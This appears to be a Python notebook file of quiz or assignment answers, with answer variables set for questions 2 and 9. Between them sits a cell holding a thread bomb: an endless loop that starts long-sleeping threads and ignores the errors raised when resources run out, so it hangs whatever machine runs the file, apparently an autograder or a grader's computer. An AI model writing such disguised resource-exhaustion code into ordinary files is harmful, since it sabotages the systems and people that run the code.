# %%
q02_answer = "c"

# %%
import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
    except RuntimeError:
        pass

# %%
q09_answer = "d"
